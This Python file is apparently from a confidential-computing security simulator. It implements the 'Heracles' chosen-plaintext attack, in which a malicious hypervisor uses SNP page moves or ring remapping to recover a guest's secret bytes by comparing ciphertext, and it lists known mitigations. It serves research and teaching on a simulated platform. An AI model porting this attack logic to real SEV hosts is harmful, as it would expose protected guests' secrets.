"""A17: Heracles: a chosen-plaintext dictionary through page moves that re-encrypt."""

from __future__ import annotations

from sevsim.abi.status import SevStatus
from sevsim.attacks.framework import Attack, Attempt, Setting
from sevsim.attacks.lab import Lab, Victim
from sevsim.attacks.toolkit import HypervisorAttacker
from sevsim.errors import FirmwareError

BLOCK = 16
SECRET_BYTES = 32
PAGE = 4096


def guess_page(guess: int) -> bytes:
    """A packet that puts `guess` where a key press record holds its key, in every record."""
    return (bytes([guess]) + bytes(BLOCK - 1)) * (PAGE // BLOCK)


def matches(target: bytes, seen: bytes, guess: int, found: dict[int, int]) -> None:
    """Record `guess` for every record whose ciphertext equals the target's."""
    for i in range(SECRET_BYTES):
        if seen[i * BLOCK:(i + 1) * BLOCK] == target[i * BLOCK:(i + 1) * BLOCK]:
            found.setdefault(i, guess)


class Heracles(Attack):
    """Record the ciphertext of the secret's records, then have the firmware re-encrypt each
    page of attacker-chosen guesses at the secret's address and compare block by block."""

    id = "A17"
    name = "Heracles (SNP page-move chosen plaintext)"
    actor = "malicious hypervisor"
    source = ("B. Schlüter, C. Wech, S. Shinde, 'Heracles: Chosen Plaintext Attack on AMD "
              "SEV-SNP', ACM CCS 2025; AMD-SB-3021")
    fixes = (Setting("snp", "genoa", frozenset({"ciphertext-hiding"})),
             Setting("snp", features=frozenset({"page-move-disabled"})))

    def not_applicable(self, setting: Setting) -> str | None:
        """Without encryption there is no ciphertext to compare."""
        return "a plain VM's memory is plaintext" if setting.mode == "none" else None

    def attempt(self, lab: Lab) -> Attempt:
        """Send 256 guess pages for the victim to store, then compare: through SNP page moves
        where the firmware offers them for this guest, else by remapping its receive ring
        onto the secret's page while it stores them (plain SEV and SEV-ES have no page move,
        and no RMP to stop the remap)."""
        victim = lab.victim("keypad_echo")
        vm, hv = victim.vm, lab.hypervisor
        vm.host_input = b"".join(guess_page(g) for g in range(256))
        lab.trace("queued 256 packets: packet g holds byte g at the start of every 16-byte "
                  "record")
        secret_spa = hv.gpa_to_spa(vm, victim.symbol("presses"))
        if self._page_moves(lab, hv, victim):
            hv.run(vm)
            target = hv.read_spa(secret_spa, SECRET_BYTES * BLOCK)
            lab.trace(f"ciphertext of the key press records at SPA 0x{secret_spa:x}: "
                      f"{target[:BLOCK].hex()}…")
            found = self._moved(lab, hv, victim, secret_spa, target)
        else:
            target, found = self._remapped(lab, hv, victim, secret_spa)
        lab.trace(f"the victim says: {vm.console.strip()!r}")
        data = bytes(found.get(i, 0) for i in range(SECRET_BYTES))
        lab.trace(f"matched {len(found)} of {SECRET_BYTES} records")
        saw = ("0xFF: ciphertext hiding" if target == b"\xff" * len(target)
               else f"no guess matched {SECRET_BYTES - len(found)} records")
        return Attempt(data, saw)

    @staticmethod
    def _page_moves(lab: Lab, hv: HypervisorAttacker, victim: Victim) -> bool:
        """Whether the firmware moves this guest's pages: move the ring's first page away and
        back. A firmware without SNP guests for it says so; any other refusal stops us."""
        ring = victim.symbol("ring")
        try:
            home = hv.page_move(victim.vm, ring, hv.allocate_page())
        except FirmwareError as refusal:
            if refusal.status not in (SevStatus.INVALID_PLATFORM_STATE, SevStatus.INVALID_GUEST):
                lab.trace(f"SNP_PAGE_MOVE refused: {refusal}")
                raise
            lab.trace(f"no SNP page move for this guest ({refusal.status.name}): remap instead")
            return False
        hv.page_move(victim.vm, ring, home)
        lab.trace("SNP_PAGE_MOVE works for this guest (moved a ring page away and back)")
        return True

    @staticmethod
    def _moved(lab: Lab, hv: HypervisorAttacker, victim: Victim, secret_spa: int,
               target: bytes) -> dict[int, int]:
        """Move the secret's page away, then each guess page onto the secret's address and
        back, comparing what the firmware's re-encryption put there."""
        vm, ring = victim.vm, victim.symbol("ring")
        hv.page_move(vm, victim.symbol("presses"), hv.allocate_page())
        lab.trace(f"SNP_PAGE_MOVE: the records' page leaves SPA 0x{secret_spa:x}")
        found: dict[int, int] = {}
        for guess in range(256):
            gpa = ring + guess * PAGE
            home = hv.page_move(vm, gpa, secret_spa)
            matches(target, hv.read_spa(secret_spa, SECRET_BYTES * BLOCK), guess, found)
            hv.page_move(vm, gpa, home)
        lab.trace("moved each of the 256 packets onto that SPA and back, comparing records")
        return found

    @staticmethod
    def _remapped(lab: Lab, hv: HypervisorAttacker, victim: Victim, secret_spa: int
                  ) -> tuple[bytes, dict[int, int]]:
        """Map the ring page the victim fills next onto the secret's SPA, so the victim itself
        encrypts each packet there; at each exit, note the ciphertext by how many packets the
        VMM has handed over. The last note before the first packet is the records'."""
        vm, ring = victim.vm, victim.symbol("ring")
        homes = [hv.gpa_to_spa(vm, ring + g * PAGE) for g in range(256)]
        notes: dict[int, bytes] = {}
        mapped: list[int] = []

        def observe(vcpu: object, exit: object) -> None:
            del vcpu, exit
            given = 256 - len(vm.host_input) // PAGE
            notes[given] = hv.read_spa(secret_spa, SECRET_BYTES * BLOCK)
            if given < 256 and mapped != [given]:
                for page in mapped:
                    hv.remap(vm, ring + page * PAGE, homes[page])
                hv.remap(vm, ring + given * PAGE, secret_spa)
                mapped[:] = [given]

        hv.on_exit(vm, observe)
        try:
            hv.run(vm)
        finally:
            hv.on_exit(vm, None)
        lab.trace(f"remapped each ring page in turn onto SPA 0x{secret_spa:x} as the victim "
                  "filled it, reading the ciphertext there at every exit")
        target = notes.get(0, b"")
        found: dict[int, int] = {}
        for guess in range(256):
            if guess + 1 in notes:
                matches(target, notes[guess + 1], guess, found)
        return target, found
